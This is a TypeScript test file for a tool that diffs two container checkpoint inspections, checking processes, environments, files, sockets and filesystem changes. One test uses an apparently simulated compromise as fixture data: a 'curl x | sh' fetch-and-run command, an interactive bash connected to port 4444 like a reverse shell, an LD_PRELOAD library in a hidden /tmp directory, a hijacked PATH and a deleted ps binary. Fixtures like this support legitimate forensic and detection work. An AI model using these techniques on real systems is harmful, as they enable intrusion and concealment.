import t from 'tap';
import { diffInspections } from '../../src/analysis/diff-inspections.js';
import type { InspectedProcess, Inspection } from '../../src/analysis/inspection.js';

function proc(pid: number, over: Partial<InspectedProcess> = {}): InspectedProcess {
  return {
    pid,
    ppid: pid === 1 ? 0 : 1,
    comm: 'sh',
    threads: [pid],
    state: 'alive',
    cmdline: ['/bin/sh'],
    env: ['PATH=/bin', 'HOSTNAME=web'],
    cwd: '/',
    files: [
      { fd: 0, kind: 'file', path: '/dev/null', flags: 0 },
      { fd: 1, kind: 'pipe', pipeId: 100 + pid, flags: 1 },
    ],
    sockets: [],
    ...over,
  };
}

function inspection(over: Partial<Inspection> = {}): Inspection {
  return {
    container: { engine: 'cri-o', name: 'web', id: 'a'.repeat(64), image: 'nginx:1', pod: 'shop-1', namespace: 'shop', checkpointedAt: '2026-12-01T10:00:00Z' },
    processes: [proc(1), proc(7, { comm: 'nginx', cmdline: ['nginx'] })],
    rootfsDiff: { added: [{ path: '/tmp/x', type: 'file', size: 3, mode: '0644', sha256: '1'.repeat(64), executable: false }], deleted: ['/etc/motd'] },
    mounts: [{ destination: '/proc', type: 'proc', source: 'proc' }],
    checkpointSize: { totalBytes: 1000, memoryPagesBytes: 800, rootfsDiffBytes: 10 },
    compression: 'none',
    stats: { frozenTimeUs: 1000, pagesWritten: 10 },
    warnings: [],
    ...over,
  };
}

t.test('one container checkpointed twice with nothing changed: same, whatever the checkpoints themselves say', async (t) => {
  const a = inspection();
  const b = inspection({
    container: { ...a.container, checkpointedAt: '2026-12-01T11:00:00Z' },
    // after a restore, pipes are new kernel objects and files are reopened with O_LARGEFILE
    processes: a.processes.map((p) => ({
      ...p,
      files: p.files.map((f) => ({ ...f, ...(f.pipeId && { pipeId: f.pipeId + 5000 }), flags: (f.flags ?? 0) | 0o100000 })),
    })),
    checkpointSize: { totalBytes: 2000, memoryPagesBytes: 1800, rootfsDiffBytes: 10 },
    compression: 'zstd',
    stats: { frozenTimeUs: 3000, pagesWritten: 40 },
  });
  const d = diffInspections(a, b);
  t.equal(d.same, true);
  t.equal(d.kinship.verdict, 'same-container');
  t.same(d.processes, { added: [], removed: [], changed: [] }, 'pipe ids and O_LARGEFILE are not changes');
  t.match(
    d.checkpoint,
    [
      { field: 'checkpointedAt', a: '2026-12-01T10:00:00Z', b: '2026-12-01T11:00:00Z' },
      { field: 'frozenTimeUs', a: 1000, b: 3000 },
      { field: 'pagesWritten', a: 10, b: 40 },
      { field: 'checkpointBytes', a: 1000, b: 2000 },
      { field: 'memoryPagesBytes' },
      { field: 'rootfsDiffBytes' },
      { field: 'compression', a: 'none', b: 'zstd' },
    ],
    'shown side by side',
  );
});

t.test('processes, command lines, environments, files, sockets and the filesystem: what changed from A to B', async (t) => {
  const a = inspection();
  const shell = proc(12, {
    comm: 'bash',
    cmdline: ['bash', '-i'],
    sockets: [
      {
        fd: 0,
        kind: 'inet',
        family: 'ipv4',
        protocol: 'tcp',
        state: 'ESTABLISHED',
        local: '10.0.0.5:40000',
        remote: '203.0.113.50:4444',
        inode: 77,
        recvQueue: 0,
        sendQueue: 0,
      },
    ],
  });
  const b = inspection({
    processes: [
      proc(1, {
        cmdline: ['/bin/sh', '-c', 'curl x | sh'],
        env: ['PATH=/tmp/.x:/bin', 'HOSTNAME=web', 'LD_PRELOAD=/tmp/.x/l.so'],
        files: [
          { fd: 0, kind: 'file', path: '/dev/null', flags: 0 },
          { fd: 1, kind: 'file', path: '/tmp/.log', flags: 1 },
          { fd: 5, kind: 'file', path: '/tmp/.x/l.so', flags: 0 },
        ],
      }),
      shell,
    ],
    rootfsDiff: {
      added: [
        { path: '/tmp/x', type: 'file', size: 9, mode: '0755', sha256: '2'.repeat(64), executable: true },
        { path: '/tmp/.x/l.so', type: 'file', size: 5, mode: '0755', sha256: '3'.repeat(64), executable: true },
      ],
      deleted: ['/usr/bin/ps'],
    },
  });
  const d = diffInspections(a, b);
  t.equal(d.same, false);
  t.same(d.processes.added, [{ pid: 12, ppid: 1, comm: 'bash', cmdline: ['bash', '-i'] }]);
  t.same(d.processes.removed, [{ pid: 7, ppid: 1, comm: 'nginx', cmdline: ['nginx'] }]);
  const p1 = d.processes.changed[0]!;
  t.equal(p1.pid, 1);
  t.same(p1.fields, [{ field: 'cmdline', a: ['/bin/sh'], b: ['/bin/sh', '-c', 'curl x | sh'] }]);
  t.same(p1.env, { added: ['LD_PRELOAD=/tmp/.x/l.so'], removed: [], changed: [{ key: 'PATH', a: 'PATH=/bin', b: 'PATH=/tmp/.x:/bin' }] });
  t.same(p1.files.added, [{ fd: 5, kind: 'file', path: '/tmp/.x/l.so', flags: 0 }]);
  t.same(p1.files.changed, [{ key: 1, a: { fd: 1, kind: 'pipe', flags: 1 }, b: { fd: 1, kind: 'file', path: '/tmp/.log', flags: 1 } }]);
  t.same(
    d.filesystem.added.map((f) => f.path),
    ['/tmp/.x/l.so'],
  );
  t.same(
    d.filesystem.changed.map((f) => [f.key, f.a.sha256?.[0], f.b.sha256?.[0]]),
    [['/tmp/x', '1', '2']],
    'the same path, other content',
  );
  t.same(d.filesystem.deleted, { added: ['/usr/bin/ps'], removed: ['/etc/motd'] });

  const later = diffInspections(
    b,
    inspection({ processes: [b.processes[0]!, { ...shell, sockets: [{ ...shell.sockets[0]!, inode: 99, state: 'CLOSE_WAIT', recvQueue: 120 }] }] }),
  );
  t.same(
    later.processes.changed.map((p) => p.sockets.changed.map((s) => [s.key, s.a.state, s.b.state, s.b.recvQueue])),
    [[[0, 'ESTABLISHED', 'CLOSE_WAIT', 120]]],
    'a socket by its fd, its inode not compared',
  );
});

t.test('kinship: the same id, the same name in the same pod, the same processes after a restore, or different containers', async (t) => {
  const a = inspection();
  t.equal(diffInspections(a, a).kinship.verdict, 'same-container');
  const restarted = inspection({ container: { ...a.container, id: 'b'.repeat(64) } });
  t.match(diffInspections(a, restarted).kinship, { verdict: 'same-name', reason: /new id .* same container name web in pod shop\/shop-1/ });
  const restored = inspection({ container: { ...a.container, id: 'c'.repeat(64), name: 'web-restored' } });
  t.match(diffInspections(a, restored).kinship, { verdict: 'same-processes', reason: /same image and the same 2 processes/ });
  const rerun = inspection({
    container: { ...a.container, id: 'd'.repeat(64), name: 'web2' },
    processes: a.processes.map((p) => ({ ...p, env: ['PATH=/bin', 'HOSTNAME=web2'] })),
  });
  const d = diffInspections(a, rerun);
  t.match(d.kinship, { verdict: 'different-containers', reason: /not one container; compared all the same/ });
  t.equal(d.processes.changed.length, 2, 'and still compared, process by process');
});
